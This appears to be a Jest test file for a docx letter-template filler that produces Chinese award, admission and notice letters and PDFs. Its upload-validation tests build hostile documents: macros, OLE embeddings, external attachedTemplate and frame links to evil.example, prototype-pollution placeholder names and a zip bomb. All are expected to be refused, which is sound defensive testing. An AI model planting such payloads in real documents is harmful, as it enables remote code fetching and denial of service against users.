import mammoth from 'mammoth';
import PizZip from 'pizzip';
import { isRefusal, type Refusal } from '@keshen/kernel';
import { letterKinds } from '@keshen/programme';
import { templateLimits } from '../domain/requests';
import { exampleWords } from '../domain/examples';
import { checkTemplate, fillDocx, fillExample, readTemplate } from './docx/fill';
import { writeDocx, type Block } from './docx/write';
import { pdfOf } from './pdf';
import { shippedTemplate } from './shipped';

const made = new Date('2026-11-25T02:00:00Z');
const of = (...texts: string[]): Buffer => writeDocx(texts.map((text): Block => ['body', text]));
const textOf = async (docx: Buffer): Promise<string> =>
  (await mammoth.extractRawText({ buffer: docx })).value;
const refusalOf = (bytes: Buffer): Refusal => {
  try {
    checkTemplate('award', bytes);
  } catch (error) {
    if (isRefusal(error)) return error;
    throw error;
  }
  throw new Error('nothing was refused');
};
/** The docx with a part added or replaced. */
const withPart = (docx: Buffer, name: string, content: string | Buffer): Buffer => {
  const zip = new PizZip(docx);
  zip.file(name, content);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
};

describe('a shipped template', () => {
  it.each(letterKinds)('%s asks for words of its kind only, and is the same bytes every time', (kind) => {
    expect(() => checkTemplate(kind, shippedTemplate(kind))).not.toThrow();
    expect(shippedTemplate(kind).equals(shippedTemplate(kind))).toBe(true);
  });

  it.each(letterKinds)(
    '%s names the seal’s place, the date and, filled, leaves no brace behind',
    async (kind) => {
      const text = await textOf(fillExample(kind, shippedTemplate(kind)));
      expect(text).toContain('〔盖章处〕');
      expect(text).toContain('2026年11月26日');
      expect(text).not.toMatch(/[{}—？]|undefined/);
    },
  );
});

describe('a filled letter', () => {
  const words = {
    ...exampleWords('award'),
    party: '上海某传感技术有限公司 & <子公司>',
    title: '第一行\n第二行 {amount} \u0000',
    number: '嘉科立〔2026〕5号',
  };

  it('holds what people wrote as text: no markup, no placeholder, no control character', async () => {
    const docx = fillDocx(shippedTemplate('award'), words);
    const text = await textOf(docx);
    expect(text).toContain('上海某传感技术有限公司 & <子公司>：');
    expect(text).toContain('第二行 {amount}');
    expect(new PizZip(docx).file('word/document.xml')!.asText()).not.toContain('\u0000');
  });

  it('writes a dash for a word that is not there, and no row for an empty list', async () => {
    const text = await textOf(fillDocx(shippedTemplate('award'), { party: '甲', instalments: [] }));
    expect(text).toContain('公示文号：—');
    expect(text).not.toContain('%');
  });

  it('looks names up among its own words and nowhere else', async () => {
    const text = await textOf(fillDocx(of('{constructor} {__proto__} {toString}'), { party: '甲' }));
    expect(text.trim()).toBe('— — —');
  });

  it('becomes a PDF with Chinese fonts embedded and as many pages as it needs', async () => {
    const short = await pdfOf(fillDocx(shippedTemplate('admission'), words), {
      title: '嘉科立〔2026〕5号',
      made,
    });
    const items = Array.from({ length: 60 }, (_, i) => ({
      position: `${i + 1}`,
      party: '某单位',
      title: '某项目',
    }));
    const long = await pdfOf(fillDocx(shippedTemplate('notice'), { ...exampleWords('notice'), items }), {
      title: '公示',
      made,
    });
    const pages = (pdf: Buffer) => pdf.toString('latin1').match(/\/Type \/Page\b/g)!.length;
    expect(short.subarray(0, 5).toString()).toBe('%PDF-');
    expect(short.toString('latin1')).toMatch(/\/FontName \/[A-Z]+\+NotoSansSC/);
    expect(short.length).toBeLessThan(200_000);
    expect(pages(short)).toBe(1);
    expect(pages(long)).toBeGreaterThan(2);
  });
});

describe('an uploaded template', () => {
  it('may use words, lists and conditions of its kind, the outer words inside a list too', () => {
    expect(() =>
      checkTemplate(
        'award',
        of('{party} {#instalments}{label} {amount} {party}{/instalments} {#remark}附：{remark}{/remark}'),
      ),
    ).not.toThrow();
  });

  it('is refused with the names of the placeholders that nobody fills', () => {
    const { code, details } = refusalOf(of('{party} {partner} {#instalments}{bank}{/instalments} {label}'));
    expect([code, details['words']]).toEqual(['template.words', ['partner', 'bank', 'label']]);
  });

  it('is read before it is used: what it fills, and where a placeholder stands that nobody fills', () => {
    const docx = of('致 {party}：', '{#instalments}', '{label} 汇至{bank}账户', '{/instalments}{label}');
    const { known, unknown } = readTemplate('award', docx);
    expect(known).toEqual(['party', 'instalments', 'label']);
    expect(unknown.map(({ name, part, paragraph, text }) => [name, part, paragraph, text])).toEqual([
      ['bank', 'body', 3, '{label} 汇至{bank}账户'],
      ['label', 'body', 4, '{/instalments}{label}'],
    ]);
  });

  it('shows in its example what nobody will fill, at its place', async () => {
    expect(await textOf(fillExample('award', of('{party} 汇至{bank}账户')))).toContain(
      '上海示例传感技术有限公司 汇至【？bank】账户',
    );
  });

  it('computes nothing: an expression is no word', () => {
    expect(refusalOf(of('{party.length} {1+1}')).details['words']).toEqual(['party.length', '1+1']);
    expect(refusalOf(of('{@party}')).code).toBe('template.raw');
  });

  it('is refused with the tags that do not close', () => {
    expect(refusalOf(of('{#instalments}{label}')).code).toBe('template.broken');
    expect(refusalOf(of('{party')).code).toBe('template.broken');
  });

  it('is refused with macros, embedded objects, or content fetched from outside', () => {
    const docx = of('{party}');
    const rels = (target: string, type: string) =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
    for (const active of [
      withPart(docx, 'word/vbaProject.bin', 'x'),
      withPart(docx, 'word/embeddings/oleObject1.bin', 'x'),
      withPart(docx, 'word/_rels/settings.xml.rels', rels('https://evil.example/t.dotm', 'attachedTemplate')),
      withPart(docx, 'word/_rels/settings.xml.rels', rels('https://evil.example/hyperlink', 'frame')),
      withPart(
        docx,
        'word/_rels/settings.xml.rels',
        rels('https://evil.example/t.dotm', 'attachedTemplate').replaceAll('"', "'"),
      ),
    ])
      expect(refusalOf(active).code).toBe('template.active');
    expect(() =>
      checkTemplate(
        'award',
        withPart(docx, 'word/_rels/footer1.xml.rels', rels('https://k.gov.cn', 'hyperlink')),
      ),
    ).not.toThrow();
  });

  it('is refused when it is no docx, too large, or unpacks to more than it may', () => {
    expect(refusalOf(Buffer.from('PK nonsense')).code).toBe('template.docx');
    expect(refusalOf(withPart(of('{party}'), '[Content_Types].xml', '<Types/>')).code).toBe('template.docx');
    expect(refusalOf(Buffer.alloc(templateLimits.packed + 1)).code).toBe('template.size');
    const bomb = withPart(of('{party}'), 'word/media/a.txt', Buffer.alloc(templateLimits.unpacked + 1));
    expect(bomb.length).toBeLessThan(templateLimits.packed);
    expect(refusalOf(bomb).code).toBe('template.size');
  });
});
